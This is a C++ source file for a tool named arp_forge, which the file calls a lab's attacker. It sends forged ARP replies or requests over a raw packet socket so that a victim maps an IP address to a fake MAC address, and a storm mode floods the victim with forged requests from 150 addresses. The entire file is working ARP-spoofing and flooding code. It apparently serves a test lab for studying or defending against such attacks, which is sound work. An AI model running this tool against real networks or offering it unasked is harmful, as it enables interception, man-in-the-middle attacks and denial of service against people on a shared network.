// SPDX-License-Identifier: MIT
// The lab's attacker: sends forged ARP replies (or, with `request`, forged requests, which create
// an entry where none is) that claim an address for a MAC address nobody answers to, straight
// onto the link through an AF_PACKET socket.
//
//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS [request|storm]]]
//
// A storm sends COUNT requests back to back, from 150 addresses from CLAIMED_IP on, each with a
// link-layer address of its own, and prints one line: "storm FRAMES SECONDS".
//
// Prints one line with the wall-clock time in microseconds for every reply sent.
#include <arpa/inet.h>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <string>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

namespace {

bool parseMac(const char* text, unsigned char mac[6]) {
    unsigned int b[6];
    if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != 6) {
        return false;
    }
    for (int i = 0; i < 6; ++i) {
        mac[i] = static_cast<unsigned char>(b[i]);
    }
    return true;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 6) {
        std::fprintf(stderr, "usage: arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC "
                             "[COUNT [INTERVAL_MS [request|storm]]]\n");
        return 2;
    }
    unsigned char fakeMac[6];
    unsigned char victimMac[6];
    in_addr claimed{};
    in_addr victim{};
    if (!parseMac(argv[3], fakeMac) || !parseMac(argv[5], victimMac) ||
        ::inet_pton(AF_INET, argv[2], &claimed) != 1 ||
        ::inet_pton(AF_INET, argv[4], &victim) != 1) {
        std::fprintf(stderr, "arp_forge: bad address\n");
        return 2;
    }
    const int count = argc > 6 ? std::stoi(argv[6]) : 1;
    const int intervalMs = argc > 7 ? std::stoi(argv[7]) : 1000;
    const bool storm = argc > 8 && std::string(argv[8]) == "storm";
    const bool forgeRequest = storm || (argc > 8 && std::string(argv[8]) == "request");

    const int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (fd < 0) {
        std::perror("arp_forge: socket");
        return 1;
    }
    ifreq request{};
    std::strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
    if (::ioctl(fd, SIOCGIFINDEX, &request) != 0) {
        std::perror("arp_forge: interface");
        return 1;
    }
    const int interfaceIndex = request.ifr_ifindex;
    if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) {
        std::perror("arp_forge: interface address");
        return 1;
    }
    // The frame leaves from the attacker's own MAC, so the switch never learns where the fake
    // MAC lives and floods every frame sent to it.
    unsigned char ownMac[6];
    std::memcpy(ownMac, request.ifr_hwaddr.sa_data, 6);

    unsigned char frame[42] = {};
    std::memcpy(frame, victimMac, 6);
    std::memcpy(frame + 6, ownMac, 6);
    frame[12] = 0x08;
    frame[13] = 0x06;
    unsigned char* arp = frame + 14;
    arp[1] = 1;    // Ethernet
    arp[2] = 0x08; // IPv4
    arp[4] = 6;
    arp[5] = 4;
    arp[7] = forgeRequest ? 1 : 2;
    std::memcpy(arp + 8, fakeMac, 6);
    std::memcpy(arp + 14, &claimed, 4);
    if (!forgeRequest) { // a request leaves the target's hardware address to be found out
        std::memcpy(arp + 18, victimMac, 6);
    }
    std::memcpy(arp + 24, &victim, 4);

    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = interfaceIndex;
    to.sll_halen = 6;
    std::memcpy(to.sll_addr, victimMac, 6);
    if (storm) {
        const auto start = std::chrono::steady_clock::now();
        const std::uint32_t first = ntohl(claimed.s_addr);
        for (int i = 0; i < count; ++i) {
            const std::uint32_t sender = htonl(first + static_cast<std::uint32_t>(i % 150));
            std::memcpy(arp + 14, &sender, 4);
            arp[11] = static_cast<unsigned char>(i >> 16);
            arp[12] = static_cast<unsigned char>(i >> 8);
            arp[13] = static_cast<unsigned char>(i);
            (void)::sendto(fd, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
        }
        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
        std::printf("storm %d %.3f\n", count, took.count());
        ::close(fd);
        return 0;
    }
    for (int i = 0; i < count; ++i) {
        if (i > 0) {
            std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
        }
        if (::sendto(fd, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0) {
            std::perror("arp_forge: sendto");
            return 1;
        }
        const auto now = std::chrono::duration_cast<std::chrono::microseconds>(
            std::chrono::system_clock::now().time_since_epoch());
        std::printf("forged %lld\n", static_cast<long long>(now.count()));
        std::fflush(stdout);
    }
    ::close(fd);
    return 0;
}
